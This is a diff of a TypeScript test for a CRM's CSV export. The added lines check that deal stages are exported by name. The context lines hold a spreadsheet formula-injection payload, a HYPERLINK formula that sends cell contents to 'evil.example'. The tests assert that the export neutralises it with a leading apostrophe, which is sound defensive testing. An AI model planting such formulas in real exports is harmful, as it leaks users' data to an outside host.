@@ -153,6 +153,9 @@ describe('CSV export', () => {
     expect(dealHeader?.slice(0, 5)).toEqual(['Name', 'Account', 'Contacts', 'Amount', 'Currency']);
     expect(big?.slice(0, 5)).toEqual(['Big deal', "'+Plus Industries", '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', '12345.67', 'EUR']);
     expect(yen?.slice(3, 5)).toEqual(['5000', 'JPY']);
+    // The stage as the board names it, not its id.
+    const stage = dealHeader?.indexOf('Stage') ?? -1;
+    expect([big?.[stage], yen?.[stage]]).toEqual(['Lead', 'Won']);
     const activities = await runCounted({ entity: 'activities', query: {} });
     expect(rowsOf(activities.csv)[1]?.slice(0, 5)).toEqual(['call', 'Intro call', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', '', 'Big deal']);
     const tasks = await runCounted({ entity: 'tasks', query: {} });
